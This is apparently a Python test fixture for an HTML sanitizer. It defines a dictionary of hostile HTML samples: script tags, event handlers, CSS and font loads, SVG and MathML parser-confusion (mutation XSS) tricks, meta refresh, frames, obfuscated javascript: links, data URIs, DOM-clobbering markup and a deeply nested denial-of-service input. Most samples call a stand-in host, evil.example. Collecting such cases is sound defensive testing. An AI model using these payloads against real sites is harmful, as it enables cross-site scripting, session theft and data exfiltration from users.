"""HTML that strangers could send: each kind tries to load something from EVIL, to run, to leave, or to pass for our page."""

EVIL = "http://evil.example"
RUNS = "fetch('http://evil.example/ran');top.document.title='taken'"
"""What a script says once it runs."""

HOSTILE: dict[str, str] = {
    "script": f"<script>{RUNS}</script><script src={EVIL}/1.js></script><script type=module>import '{EVIL}/2.js'</script>"
    f"<scr\0ipt>{RUNS}</scr\0ipt><script/x>{RUNS}</script ><SCRIPT>{RUNS}</SCRIPT>",
    "handlers": f'<img src=x onerror="{RUNS}"><b onmouseover="{RUNS}">x</b><details open ontoggle="{RUNS}">x</details>'
    f'<marquee onstart="{RUNS}">x</marquee><p onanimationstart="{RUNS}" style=animation:x>x</p><b/onclick="{RUNS}">x</b>'
    f'<img src=x\nonerror\n=\n"{RUNS}"><div onpointerrawupdate="{RUNS}" onscrollend="{RUNS}">x</div>',
    "styles": f"<style>@import '{EVIL}/a.css';</style><p style=\"background:url({EVIL}/b)\">x</p>"
    f'<p style="background-image:u\\72l({EVIL}/c);list-style-image:url({EVIL}/d);cursor:url({EVIL}/e),auto">x</p>'
    f"<p style=\"background:image-set('{EVIL}/f' 1x);content:url({EVIL}/g);width:expression(alert(1));behavior:url({EVIL}/h)\">x</p>"
    f'<link rel=stylesheet href={EVIL}/i.css><link rel="stylesheet alternate" href=//evil.example/j.css>',
    "fonts": f"<style>@font-face{{font-family:f;src:url({EVIL}/k.woff2)}}p{{font-family:f}}</style><p>x</p>"
    f"<font face='x' style='src:url({EVIL}/l)'>x</font><link rel=preload as=font href={EVIL}/m.woff2 crossorigin>",
    "svg": f"<svg><script>{RUNS}</script><image href='{EVIL}/n.png'/><use href='{EVIL}/o#p'/><feImage href='{EVIL}/q'/>"
    f"<foreignObject><iframe src={EVIL}/r></iframe></foreignObject><style>*{{background:url({EVIL}/s)}}</style></svg>",
    "svg moving": f'<svg onload="{RUNS}"><a xlink:href="javascript:{RUNS}"><text y=9>x</text></a>'
    f'<animate attributeName=href values="javascript:{RUNS}"/><set attributeName=onmouseover to="{RUNS}"/></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>'
    f'<math href="javascript:{RUNS}">x</math><math><annotation-xml encoding="text/html"><script>{RUNS}</script>'
    f'</annotation-xml></math><math><mi//xlink:href="data:x,<script>{RUNS}</script>">',
    "parsed twice": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUNS}">'
    f"<svg></p><style><a id=\"</style><img src=x onerror='{RUNS}'>\">",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/t'><META HTTP-EQUIV=Refresh CONTENT=\"0; {EVIL}/u\">"
    f"<base href='{EVIL}/'><base target=_top><meta http-equiv=set-cookie content='triage=x'>"
    '<meta http-equiv=Content-Security-Policy content="default-src *"><img src=v.gif>',
    "forms": f'<form action={EVIL}/w id=f><input autofocus onfocus="{RUNS}"><button>x</button><input type=image src={EVIL}/x></form>'
    f'<button form=f formaction={EVIL}/y>x</button><textarea autofocus></textarea><select autofocus onfocus="{RUNS}"></select>'
    f"<isindex action={EVIL}/z><keygen autofocus><label for=password>x</label>",
    "frames": f"<iframe src={EVIL}/aa></iframe><object data={EVIL}/ab></object><embed src=//evil.example/ac>"
    f'<frameset><frame src={EVIL}/ad></frameset><applet code=x archive={EVIL}/ae></applet><iframe src="javascript:{RUNS}">'
    f"</iframe><portal src={EVIL}/af></portal><fencedframe src={EVIL}/ag></fencedframe><object><param name=movie value={EVIL}/ah></object>",
    "pictures": f"<img src={EVIL}/ai.gif><img srcset='{EVIL}/aj 2x'><picture><source srcset=//evil.example/ak></picture>"
    f"<img src=//evil.example/al><img src=\\\\evil.example/am><img src='/\\evil.example/an'><image src={EVIL}/ao>"
    f"<img dynsrc={EVIL}/ap lowsrc={EVIL}/aq longdesc={EVIL}/ar><img src=x attributionsrc={EVIL}/as><img src='/sign-out?at'>",
    "media": f"<video src={EVIL}/au autoplay poster={EVIL}/av></video><audio src={EVIL}/aw autoplay></audio>"
    f"<video autoplay><source src={EVIL}/ax><track src={EVIL}/ay default></video><bgsound src={EVIL}/az>",
    "backgrounds": f"<table background={EVIL}/ba><tr background={EVIL}/bb><td background={EVIL}/bc>x</td></tr></table>"
    f"<body background={EVIL}/bd>x</body><div background={EVIL}/be>x</div>",
    "links": f"<a href='javascript:{RUNS}'>x</a><a href=\"data:text/html,<script>{RUNS}</script>\">y</a>"
    f'<a href="java&#10;script:{RUNS}">z</a><a href="&#1;javascript:{RUNS}">z</a><a href="&#106;avascript&colon;{RUNS}">z</a>'
    f'<a href="vbscript:x">z</a><a href="file:///etc/passwd">z</a><a ping={EVIL}/bf href=#x>z</a><a href="//evil.example/bg">z</a>'
    f'<a target=_top href="blob:{EVIL}/bh">z</a><map><area href="javascript:{RUNS}"></map>',
    "hints": f"<link rel=prefetch href={EVIL}/bi><link rel=dns-prefetch href=//evil.example><link rel=preconnect href={EVIL}>"
    f"<link rel=icon href={EVIL}/bj><link rel=manifest href={EVIL}/bk><link rel=modulepreload href={EVIL}/bl.js>"
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}/bm"]}}]}}</script>',
    "data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>\">"
    f'<iframe srcdoc="<script>{RUNS}</script>"></iframe><object type=text/html data="data:text/html,<script>{RUNS}</script>">'
    f'</object><embed src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:text/html,<script>{RUNS}</script>">'
    "<img src=\"data:image/png;base64,AAAA' onload='alert(1)\"><a href='data:image/png;base64,AAAA'>x</a>",
    "cid": f"<img src='cid:nothing'><img src='CID:x&quot; onerror={RUNS}'><img src=\"cid:y\" alt=\"><script>{RUNS}</script>\">"
    f"<iframe src=cid:page></iframe><img src='cid:{EVIL}/bn'><a href='cid:z'>x</a>",
    "nesting": f"<<script>script>{RUNS}<</script>/script><p><noscript><p title=\"</noscript><img src=x onerror='{RUNS}'>\">"
    f"<template><script>{RUNS}</script></template><xmp><p title=\"</xmp><img src=x onerror='{RUNS}'>\"></xmp>"
    f'<textarea><p title="</textarea><img src=x onerror=\'{RUNS}\'>"></textarea><title><p title="</title><script>{RUNS}</script>">',
    "comments": f'<!--><img src=x onerror="{RUNS}">--><!--[if IE]><script>{RUNS}</script><![endif]--><![CDATA[<script>{RUNS}'
    f"</script>]]><?xml-stylesheet href='{EVIL}/bo'?><!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/bp'>]>&e;<!--!><script>{RUNS}</script>",
    "our own page": "<div id=desk data-ahead='/sign-out' data-here='/sign-out'></div><form id=extras data-decide "
    "action='/messages/1/decide' "
    "method=post><input name=destination value=DMM></form><button data-keys='Enter c'>x</button><dialog open id=help>x</dialog>"
    "<a name=main id=main accesskey=c href='/sign-out'>x</a><b style='position:fixed;inset:0;z-index:99'>x</b>",
    "endless": "<div>" * 5000 + f"<img src={EVIL}/bq>" + '<b title="' + "x" * 100_000,
}
